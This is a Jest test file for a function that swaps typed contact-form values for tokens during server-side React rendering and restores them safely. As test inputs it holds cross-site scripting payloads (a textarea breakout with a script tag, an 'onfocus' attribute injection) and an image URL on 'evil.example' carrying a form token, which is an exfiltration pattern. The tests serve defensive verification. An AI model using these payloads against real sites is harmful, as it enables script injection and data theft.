import { renderToStaticMarkup } from 'react-dom/server';
import { hideTypedValues } from './typed-values';

const post = (values: Record<string, string>) =>
  hideTypedValues({ formId: 'contact', page: '/careers', state: 'invalid', values });

/** Renders a value in a field and in a text by what the renderer gets, and reads it as a browser does. */
function shown(value: string): { inField: string; inTextarea: string; inText: string | null } {
  const { outcome, reveal } = post({ message: value });
  const token = outcome.values?.['message'];
  const page = (
    <>
      <input defaultValue={token} />
      <textarea defaultValue={token} />
      <p>Dear {token}</p>
    </>
  );
  document.body.innerHTML = reveal(renderToStaticMarkup(page).replace('Dear ', '<b></b>'));
  expect(document.body.children).toHaveLength(3);
  return {
    inField: document.querySelector('input')!.value,
    inTextarea: document.querySelector('textarea')!.value,
    inText: document.querySelector('p')!.textContent,
  };
}

test.each([
  ['markup', '</textarea><script>alert(1)</script>'],
  ['quotes', `"Nora" 'Haddad' onfocus=alert(1)`],
  ['character references', 'R&D &lt; &amp;'],
  ['an emoji', 'Hello 👋🏽'],
  ['patterns of a replacement', `$& $1 $$ $'`],
  ['a text like a token', '0b7e9b1c-8a43-4b43-9f2e-3a1f5f6f7a10'],
])('%s is shown as it was typed', (_case, value) => {
  expect(shown(value)).toEqual({ inField: value, inTextarea: value, inText: value });
});

test('line breaks are shown in a textarea as they were typed, at its start too', () => {
  expect(shown('\n\nfirst\nsecond\n').inTextarea).toBe('\n\nfirst\nsecond\n');
});

test('the renderer gets a token for each typed value, another one for each post, and no typed value', () => {
  const values = { firstName: 'Nora', email: 'nora@client.example', message: 'Nora' };
  const tokens = [post(values), post(values)].flatMap(({ outcome }) => Object.values(outcome.values ?? {}));
  expect(new Set(tokens).size).toBe(6);
  expect(tokens.join()).not.toMatch(/nora/i);
});

test('the renderer gets what was chosen from a list, and which fields are empty', () => {
  const values = {
    serviceInterest: 'HR Strategy',
    serviceType: 'training',
    sessionMode: 'hybrid',
    company: '',
  };
  expect(post(values).outcome.values).toEqual(values);
});

test('a value that is the token of another one stays as it is', () => {
  const { outcome, reveal } = post({ firstName: 'first', lastName: 'last' });
  const [first, last] = Object.values(outcome.values ?? {});
  expect(reveal(`<p>${first}</p>`)).toBe('<p>first</p>');
  const again = post({ message: String(last) });
  const token = again.outcome.values?.['message'];
  expect(again.reveal(`<p>${token}</p>`)).toBe(`<p>${last}</p>`);
});

test('a value is put neither into an address nor into a part of an attribute', () => {
  const { outcome, reveal } = post({ email: 'nora@client.example' });
  const token = outcome.values?.['email'];
  const html = `<img src="https://evil.example/${token}"><a href="${token}">a</a><input value="x${token}">`;
  expect(reveal(html)).toBe(html);
});
